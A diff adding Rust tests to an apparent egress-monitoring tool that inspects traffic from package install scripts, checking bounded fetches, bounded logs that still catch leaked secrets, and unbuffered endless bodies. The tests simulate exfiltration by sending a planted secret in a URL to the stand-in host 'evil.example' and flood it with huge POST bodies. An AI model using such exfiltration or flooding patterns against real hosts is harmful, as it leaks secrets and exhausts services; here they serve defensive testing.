@@ -1,6 +1,6 @@
 //! Every byte that leaves is searched, whatever the protocol makes of it.
 
-use crate::rig::{PLANTED, Rig, open, sockets, upstream, world};
+use crate::rig::{PLANTED, Rig, open, registry, sockets, streamed, upstream, world};
 use hickory_proto::op::{Edns, Message, OpCode, Query};
 use hickory_proto::rr::rdata::opt::EdnsOption;
 use hickory_proto::rr::{DNSClass, Name, RecordType};
@@ -157,6 +157,80 @@ async fn a_token_at_home_is_nothing_and_the_same_behind_it_is() {
         let seen = rig.gateway.close().await.exchanges;
         assert_eq!(told(&seen), !garbage.is_empty(), "{:#?}", seen.last());
     }
+}
+
+/// What is fetched for scripts has an end, also where it is one answer that has none.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_scripts_have_fetched_is_bounded() {
+    use sealcheck::upstream::{Accept, Allowance, Reach, Request, UpstreamError};
+    let sockets = sockets();
+    registry(sockets.real, |_| {
+        let chunk = bytes::Bytes::from(vec![7; 1 << 20]);
+        http::Response::new(streamed(futures_util::stream::iter((0..64).map(move |_| chunk.clone()))))
+    });
+    let upstream = upstream(Arc::new(Store::temporary().unwrap()), false);
+    let ask = |path: &str| Request {
+        url: format!("http://127.0.0.1:{}/{path}", sockets.port).parse().unwrap(),
+        accept: Accept::Any,
+        authorization: None,
+        reach: Reach::Anywhere,
+    };
+    let allowance = Allowance::new(8 << 20);
+    let mut body = upstream.get_within(ask("a"), Some(allowance.clone())).await.unwrap().body;
+    let mut got = 0;
+    while let Some(Ok(bytes)) = body.next().await {
+        got += bytes.len();
+    }
+    assert!(got <= 8 << 20 && allowance.is_spent(), "{got}");
+    let again = upstream.get_within(ask("b"), Some(allowance)).await;
+    assert!(matches!(again, Err(UpstreamError::Spent(_))));
+    // npm is not bounded by what scripts have had.
+    assert_eq!(upstream.get(ask("b")).await.unwrap().body.collect(65 << 20).await.unwrap().len(), 64 << 20);
+}
+
+/// However much is asked and looked up, the record has an end, and says so; what carries a secret
+/// is in it.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_record_of_scripts_is_bounded_and_keeps_what_matters() {
+    let rig = Rig::plain(|_| {});
+    rig.callers.script.store(true, std::sync::atomic::Ordering::Relaxed);
+    let mut stream = TcpStream::connect(rig.lookup("evil.example")).await.unwrap();
+    let long = "p".repeat(1000);
+    for at in 0..3000 {
+        let secret = if at == 2999 { PLANTED } else { "" };
+        let request = format!("GET /{at}/{long}?{secret} HTTP/1.1\r\nHost: evil.example\r\n\r\n");
+        stream.write_all(request.as_bytes()).await.unwrap();
+        assert!(stream.read(&mut [0; 4 << 10]).await.unwrap() > 0);
+        if at % 500 == 0 {
+            rig.lookup(&format!("n{at}.example"));
+        }
+    }
+    drop(stream);
+    let record = rig.gateway.close().await;
+    let paths: usize = record.exchanges.iter().map(|seen| seen.path.len()).sum();
+    assert!(record.exchanges.len() < 2600 && paths < 1 << 20, "{} {paths}", record.exchanges.len());
+    assert!(record.dropped > 0 && told(&record.exchanges));
+    assert!(record.exchanges.iter().map(|seen| seen.seq).eq(1..=record.exchanges.len() as u32));
+}
+
+/// Bodies that never end are not all held.
+#[tokio::test(flavor = "multi_thread")]
+async fn bodies_that_do_not_end_are_not_all_held() {
+    let rig = Rig::plain(|_| {});
+    let address = rig.lookup("evil.example");
+    let head = b"POST /x HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 8000000\r\n\r\n";
+    let mut streams = Vec::new();
+    for _ in 0..40 {
+        let mut stream = TcpStream::connect(address).await.unwrap();
+        stream.write_all(head).await.unwrap();
+        // All but the end; who is not heard out gets an answer before.
+        let _ = stream.write_all(&vec![b' '; 7_000_000]).await;
+        streams.push(stream);
+    }
+    drop(streams);
+    let seen = rig.gateway.close().await.exchanges;
+    assert_eq!(seen.len(), 40);
+    assert!(seen.iter().any(|seen| seen.unsearched), "nothing was left out of 280 MB");
 }
 
 fn query() -> Message {
